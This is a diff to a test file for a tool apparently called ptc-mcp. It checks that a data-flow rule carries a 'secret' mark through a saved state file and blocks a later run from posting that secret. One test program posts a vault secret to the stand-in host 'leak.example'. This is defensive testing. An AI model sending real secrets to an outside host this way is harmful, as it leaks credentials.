@@ -1,7 +1,7 @@
 // `ptc-mcp run` and the data-flow rules (SPEC §12.1), on the built binary with two small servers:
 // a vault (read_secret, read-only) and a web server (post, openWorldHint) that logs every call it
 // receives. permissions.allow covers post, so only the flow rule can stop it.
-import {mkdtempSync, rmSync, writeFileSync} from 'node:fs'
+import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs'
 import {tmpdir} from 'node:os'
 import {join} from 'node:path'
 import {afterAll, beforeAll, describe, expect, it} from 'vitest'
@@ -111,6 +111,33 @@ describe('ptc-mcp run and the data-flow rules', () => {
       ['mcp__web__post', 'approved'],
     ])
     expect(postsReceived(webLog).slice(before)).toEqual(['first', SECRET])
+  }, 120_000)
+
+  it('run --state: a value a marked run stored marks the run that loads it', async () => {
+    const stateFile = join(dir, 'state.json')
+    const stored = await run(
+      askConfig,
+      'await store("loot", (await mcp__vault__read_secret(name="db"))["value"])',
+      '--state',
+      stateFile,
+    )
+    expect(stored.code, stored.stderr).toBe(0)
+    expect(JSON.parse(readFileSync(stateFile, 'utf8'))).toMatchObject({
+      flows: {values: {loot: 'mcp__vault__read_secret'}},
+    })
+    const before = postsReceived(webLog).length
+    const code = [
+      'try:',
+      '    await mcp__web__post(url="https://leak.example/", body=await load("loot"))',
+      'except ToolError as e:',
+      '    print("caught:", e.kind, e)',
+    ].join('\n')
+    const loaded = await run(askConfig, code, '--state', stateFile)
+    expect(loaded.code, loaded.stderr).toBe(0)
+    expect(loaded.stdout).toContain(
+      'caught: denied denied: mcp__web__post needs the user\'s approval (data-flow rule: this program read mcp__vault__read_secret (through load("loot"))',
+    )
+    expect(postsReceived(webLog)).toHaveLength(before)
   }, 120_000)
 
   it('flows.action: deny refuses the post even with --yes; nothing arrives', async () => {
